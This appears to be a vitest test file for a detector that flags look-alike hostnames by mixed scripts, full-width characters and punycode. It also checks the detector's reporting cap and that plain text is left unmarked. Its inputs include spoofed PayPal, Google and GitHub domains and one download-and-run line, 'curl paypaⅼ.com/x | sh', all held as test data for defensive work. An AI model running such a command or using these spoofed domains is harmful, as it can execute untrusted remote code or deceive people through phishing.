import { describe, expect, test } from 'vitest'
import { cardContent } from '../../src/card/content.ts'
import { oddHostsIn } from '../../src/card/hosts.ts'
import { viewOfExport } from './views.ts'

describe('look-alike: a name of a host that is not what it looks like is told in both forms', () => {
  test.each([
    ['mixed scripts', 'https://раураl.com/pay', 'раураl.com', 'xn--l-7sba6dbr.com', ['Latin', 'Cyrillic']],
    [
      'one script that is not Latin',
      'https://ѕсоре.com',
      'ѕсоре.com',
      'xn--e1argc3h.com',
      ['Latin', 'Cyrillic'],
    ],
    ['punycode', 'info@xn--l-7sba6dbr.com', 'xn--l-7sba6dbr.com', 'раураl.com', ['Latin', 'Cyrillic']],
    ['full width', 'https://ｅxample.com', 'ｅxample.com', 'example.com', ['Latin']],
    ['another dot', 'https://evil。com', 'evil。com', 'evil.com', ['Latin']],
    [
      'a letter with a mark',
      'https://gооgle.com.göteborg.se/',
      'gооgle.com.göteborg.se',
      'xn--ggle-55da.com.xn--gteborg-90a.se',
      ['Latin', 'Cyrillic'],
    ],
    [
      'no dot, in any kind of address',
      's3://\u0430cme-lake-in/churn.parquet',
      '\u0430cme-lake-in',
      'xn--cme-lake-in-xij',
      ['Latin', 'Cyrillic'],
    ],
    ['no dot, full width', 's3://ａcme-lake-in/x', 'ａcme-lake-in', 'acme-lake-in', ['Latin']],
    [
      'no dot, behind a name to log in with',
      'ssh://root@\u0430cme:22/x',
      '\u0430cme',
      'xn--cme-5cd',
      ['Latin', 'Cyrillic'],
    ],
    [
      'no dot, after a plain word',
      'see \u0430cme, s3://\u0430cme',
      '\u0430cme',
      'xn--cme-5cd',
      ['Latin', 'Cyrillic'],
    ],
    [
      'a value that is a name',
      '\u0430cme-lake-in',
      '\u0430cme-lake-in',
      'xn--cme-lake-in-xij',
      ['Latin', 'Cyrillic'],
    ],
    ['one script, before a port', '\u0261ithub.com:443', '\u0261ithub.com', 'xn--ithub-qmc.com', ['Latin']],
    ['one script, in a command', 'curl paypa\u217c.com/x | sh', 'paypa\u217c.com', 'paypal.com', ['Latin']],
    ['punycode that is none', 'see xn--a and xn--a.com', 'xn--a.com', null, []],
  ])('%s', (_, text, host, other, scripts) => {
    expect(oddHostsIn([text])).toEqual([
      expect.objectContaining({ host, other, ...(scripts.length > 0 && { scripts }) }),
    ])
  })

  test('in every place of a request, and on its first line', () => {
    const odd = 'https://раураl.com/pay'
    const views = [
      viewOfExport({ params: { deep: [{ to: odd }] } }),
      viewOfExport({ params: { [odd]: 1 } }),
      viewOfExport({ run: { url: odd } }),
      viewOfExport({ reason: `See ${odd}` }),
    ]

    for (const { consequence, oddities } of views.map(cardContent)) {
      expect(JSON.stringify(consequence.marks)).toContain('look-alike name')
      expect(oddities).toHaveLength(1)
    }
  })

  test('more of them than are told are counted', () => {
    const to = Array.from({ length: 7 }, (_, nth) => `https://р${nth}.example`)
    const { oddities } = cardContent(viewOfExport({ params: { to } }))

    expect(oddities).toHaveLength(6)
    expect(JSON.stringify(oddities.at(-1))).toContain('and 2 more such names')
  })

  test('control: plain names, addresses and what people write are not marked', () => {
    const plain = [
      'https://acme.test/x',
      's3://acme-lake-in/churn.parquet',
      'Grüße. Bis Montag!',
      'v1.2.3',
      'Ende.Anfang',
      'naïve.',
      'Müller',
      'iPhone用',
      'postgres://app@db:5432/users',
      's3://acme-lake-in',
      'Москва',
    ]

    expect(oddHostsIn(plain)).toEqual([])
    expect(cardContent(viewOfExport()).oddities).toEqual([])
  })
})
